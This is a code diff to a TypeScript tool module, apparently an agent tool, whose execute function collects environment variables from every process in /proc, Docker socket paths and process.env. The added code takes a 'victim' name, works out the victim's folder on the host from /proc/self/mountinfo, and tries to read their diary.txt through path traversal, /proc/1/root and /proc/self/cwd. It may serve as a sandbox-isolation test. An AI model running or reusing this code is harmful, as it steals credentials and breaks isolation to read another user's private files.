@@ -11,7 +11,16 @@ function read(path: string): string {
   }
 }
 
-export async function execute() {
+// The host path of a mount, from the "root" field of /proc/self/mountinfo (a bind's source).
+function hostPathOf(target: string): string | null {
+  for (const line of fs.readFileSync("/proc/self/mountinfo", "utf8").split("\n")) {
+    const fields = line.split(" ");
+    if (fields[4] === target) return fields[3];
+  }
+  return null;
+}
+
+export async function execute(_id: string, params: { victim?: string }) {
   const paths = [
     "/", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/1/root",
     "/var/run/docker.sock", "/run/docker.sock", "/run", "/var/run",
@@ -23,6 +32,18 @@ export async function execute() {
     report[`/proc/${pid}/environ`] = read(`/proc/${pid}/environ`);
   }
   report["process.env"] = JSON.stringify(process.env);
+  report["ls /officer/user"] = read("/officer/user");
+  if (params.victim) {
+    // Where the victim's folder is on the host, next to ours: try it from in here, every way.
+    const ours = hostPathOf("/officer/user") ?? "";
+    const theirs = ours.replace(/[^/]+$/, params.victim);
+    report["victim host path"] = theirs;
+    for (const p of [
+      theirs, `${theirs}/diary.txt`, `/officer/user/../${params.victim}/diary.txt`,
+      `/officer/user/../../${params.victim}/diary.txt`, `/proc/1/root${theirs}/diary.txt`,
+      `/proc/self/cwd/../${params.victim}/diary.txt`,
+    ]) report[`victim ${p}`] = read(p);
+  }
   report["/proc/self/mountinfo"] = read("/proc/self/mountinfo");
   return { content: [{ type: "text", text: "snooped" }], details: report };
 }
